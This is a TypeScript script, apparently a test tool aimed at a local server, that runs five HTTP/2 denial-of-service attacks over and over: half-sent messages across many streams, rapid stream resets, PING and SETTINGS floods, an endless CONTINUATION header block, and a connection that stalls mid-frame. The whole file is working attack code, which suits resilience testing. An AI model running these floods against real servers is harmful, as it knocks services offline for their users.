/** Tokenless HTTP/2 attacks. Arguments: which of ATTACKS, the port, how many connections. */
import { once } from 'node:events';
import net from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';
import { END_HEADERS, frame, HEALTH_CHECK, PREFACE } from '../support/raw-http2.ts';

const STREAMS = 256;
/** Bytes of a message that are sent, and that are announced. */
const SENT_BYTES = 990_000;
const ANNOUNCED_BYTES = 1_000_000;
const RECONNECT_MS = 250;
const PIECE = Buffer.alloc(16_000);

/** The first bytes of a message on every stream, then as much more as the connection takes. */
function* halfMessages(): Generator<Buffer> {
  const prefix = Buffer.alloc(5);
  prefix.writeUInt32BE(ANNOUNCED_BYTES, 1);
  const ids = Array.from({ length: STREAMS }, (_, index) => 2 * index + 1);
  for (const id of ids) yield frame(1, END_HEADERS, id, HEALTH_CHECK);
  for (const id of ids) yield frame(0, 0, id, prefix);
  for (let sent = 0; sent < SENT_BYTES; sent += PIECE.length) {
    for (const id of ids) yield frame(0, 0, id, PIECE);
  }
}

function* resets(): Generator<Buffer> {
  for (let id = 1; id < 1_000_000; id += 2) {
    yield Buffer.concat([
      frame(1, END_HEADERS, id, HEALTH_CHECK),
      frame(3, 0, id, Buffer.alloc(4)),
    ]);
  }
}

function* controlFrames(): Generator<Buffer> {
  const both = Buffer.concat([frame(6, 0, 0, Buffer.alloc(8)), frame(4, 0, 0)]);
  for (let count = 0; count < 1_000_000; count += 1) yield both;
}

/** A header block that never ends: HEADERS without END_HEADERS, CONTINUATION after it. */
function* continuations(): Generator<Buffer> {
  yield frame(1, 0, 1, HEALTH_CHECK);
  for (let count = 0; count < 1_000_000; count += 1) yield frame(9, 0, 1, PIECE);
}

/** Stops in the middle of one frame of data, for ever. */
function* silence(): Generator<Buffer> {
  yield frame(1, END_HEADERS, 1, HEALTH_CHECK);
  yield frame(0, 0, 1, PIECE).subarray(0, 100);
}

/** Sends, never acknowledges, reads and forgets; connects again when it was ended, for ever. */
async function attack(frames: () => Generator<Buffer>, port: number): Promise<void> {
  for (;;) {
    const socket = net.connect(port, '127.0.0.1');
    socket.on('error', () => undefined).resume();
    const closed = new Promise(resolve => socket.once('close', resolve));
    socket.write(PREFACE);
    for (const bytes of frames()) {
      if (socket.destroyed) break;
      if (socket.write(bytes)) continue;
      await Promise.race([once(socket, 'drain').catch(() => undefined), closed]);
    }
    await closed;
    await delay(RECONNECT_MS);
  }
}

export const ATTACKS: Readonly<Record<string, () => Generator<Buffer>>> = {
  halfMessages,
  silence,
  resets,
  controlFrames,
  continuations,
};

const [, script, name = '', port, connections] = process.argv;
if (script === import.meta.filename) {
  const frames = ATTACKS[name]!;
  for (let count = 0; count < Number(connections); count += 1) void attack(frames, Number(port));
}
